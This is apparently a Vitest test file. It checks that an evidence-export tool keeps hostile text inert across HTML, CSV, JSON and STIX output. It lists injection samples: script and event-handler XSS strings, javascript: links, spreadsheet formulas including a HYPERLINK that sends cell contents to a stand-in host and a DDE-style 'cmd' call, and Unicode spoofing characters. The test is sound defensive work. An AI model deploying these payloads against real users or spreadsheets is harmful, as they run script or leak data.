// @vitest-environment happy-dom
/** What a hostile page might send along, through every file of a pack. */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { WholeVisit } from '../../src/memory/overview/types.ts';
import { harmless, jsonText } from '../../src/evidence/harmless.ts';
import { fileIn, keptAlert, packOf, paper } from './witnessed.ts';

const LONG = 'a'.repeat(5_000);

/** Texts as a host, a path, a name of a company or a parameter might carry them. */
const HOSTILE: [name: string, text: string][] = [
  ['a script', '</script><script>alert(1)</script>'], ['an image', '"><img src=x onerror=alert(1)>'], ['an attribute', "' onmouseover='alert(1)"], ['the end of a style', '</style><style>*{display:none}</style>'],
  ['a comment', '<!--'], ['an entity', '&lt;b&gt;&#60;'], ['a formula', '=HYPERLINK("http://a.example/?"&A1,"x")'], ['another formula', "@SUM(1)|'cmd'!A0"], ['a formula after a tab', '\t=1+1'], ['a formula after a line', 'x\r\n=1+1'],
  ['a right-to-left override', 'a.example\u202emoc.elgoog'], ['isolates', '\u2066\u2067x\u2069'], ['zero width', 'go\u200bog\u2060le\ufeff'], ['line separators', 'a\u2028b\u2029c'], ['nulls and controls', 'a\u0000b\u001b[31mc\u007f\u0085'],
  ['tag characters', 'a\u{e0041}\u{e0042}'], ['half of a pair', 'a\ud800b'], ['a template', '${alert(1)}{{7*7}}'], ['backticks', '`x`'], ['quotes for a pattern', "x' OR url:value LIKE '%"], ['a backslash', '\\'], ['very long', LONG], ['a javascript address', 'javascript:alert(1)'],
];

/** The same text as host, in addresses, as company, network, parameter, site, and in what the history kept. */
function carrying(text: string): { visits: WholeVisit[]; kept: (typeof keptAlert)[] } {
  const url = `https://cdn.tracker.test/${text}`;
  const one = paper('d1', { host: text, url });
  const [first] = one.exposure.companies;
  const findings = one.exposure.findings.map((finding) => ({ ...finding, subject: text, evidence: finding.evidence.map((look) => ({ ...look, url, asker: text })) }));
  const exposure = { ...one.exposure, url: `https://example.org/${text}`, site: text, findings, companies: first ? [{ ...first, name: text }, ...one.exposure.companies.slice(1)] : [] };
  return { visits: [{ ...one, exposure }], kept: [{ ...keptAlert, subject: text, site: text, family: text, indicator: text, evidence: keptAlert.evidence.map((look) => ({ ...look, url, asker: text })) }] };
}

/** Characters that no file may hold as themselves, the byte-order mark at the beginning aside. */
const HIDDEN = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f]|(?<!^)\ufeff|\p{Surrogate}|[\u{e0000}-\u{e007f}]/u;

/** Every element and attribute of a page. */
const shape = (html: string): string[] => [...new Set([...new DOMParser().parseFromString(html, 'text/html').querySelectorAll('*')].flatMap((element) => [element.tagName, ...[...element.attributes].map(({ name }) => name)]))];
const INNOCENT = shape(fileIn(packOf(carrying('tracker.test'), 'full'), 'report.html'));

describe.each(HOSTILE)('%s', (_, text) => {
  const packs = (['full', 'hosts', 'indicators'] as const).map((redaction) => packOf(carrying(text), redaction));

  it('makes a pack at every level', () => expect(packs.map((pack) => pack !== undefined)).toEqual([true, true, true]));

  it('stands hidden in no file', () => {
    for (const pack of packs) for (const file of pack?.files ?? []) expect(HIDDEN.exec(file.text)?.[0]?.codePointAt(0), file.name).toBeUndefined();
  });

  it('is text in the report: no element and no attribute more', () => {
    for (const pack of packs) {
      const report = fileIn(pack, 'report.html');
      expect(shape(report).filter((one) => !INNOCENT.includes(one))).toEqual([]);
      expect(report).not.toMatch(/<script|<img|javascript:[^<]*"/i);
    }
  });

  it('is one cell in a table, and begins no formula', () => {
    for (const pack of packs) {
      for (const { name, text: table } of pack?.files.filter((file) => file.name.endsWith('.csv')) ?? []) {
        const { data, errors } = Papa.parse<string[]>(table.replace('\ufeff', ''), { skipEmptyLines: true });
        expect(errors, name).toEqual([]);
        expect(new Set(data.map(({ length }) => length)).size, name).toBe(1);
        expect(data.flat().filter((one) => /^\s*[=+\-@]/.test(one)), name).toEqual([]);
        // A line of the file is a row of the table.
        expect(table.split('\r\n').length - 1).toBe(data.length);
      }
    }
  });

  it('leaves JSON that can be read, without an address or a name that is none', () => {
    for (const pack of packs) {
      for (const file of pack?.files.filter(({ name }) => /\.(?:json|har)$/.test(name)) ?? []) {
        expect(() => { JSON.parse(file.text); }, file.name).not.toThrow();
        expect(file.text).not.toContain('<');
      }
      const { objects } = JSON.parse(fileIn(pack, 'sightings.stix.json')) as { objects: { type: string; value?: string; pattern?: string }[] };
      for (const { type, value = '', pattern } of objects) {
        if (type === 'domain-name') expect(value).toMatch(/^[\w.-]{1,253}$/);
        if (type === 'url') expect(URL.canParse(value)).toBe(true);
        if (pattern !== undefined) expect(pattern).toMatch(/^\[(?:domain-name|url|ipv4-addr):value = '(?:[^'\\]|\\.)*'\]$/s);
      }
    }
  });

  it('is cut where it is very long', () => {
    for (const pack of packs) expect(pack?.files.some((file) => file.text.includes('a'.repeat(2_001)))).toBe(false);
  });
});

describe('harmless text', () => {
  it('leaves ordinary text in any script alone', () => {
    for (const text of ['tracker.test', 'Ñandú, S.A. de C.V.', '新闻', 'https://a.test/?q=1&b=%20', '👩🏽']) expect(harmless(text)).toBe(text);
  });

  it('in JSON is the same value, with its hidden characters to be seen', () => {
    expect(jsonText('a\u202eb\u200bc</x>\u{e0041}')).toBe('"a\\u202eb\\u200bc\\u003c/x>\\udb40\\udc41"');
    expect(JSON.parse(jsonText('a\u202eb</x>\u{e0041}'))).toBe('a\u202eb</x>\u{e0041}');
  });
});
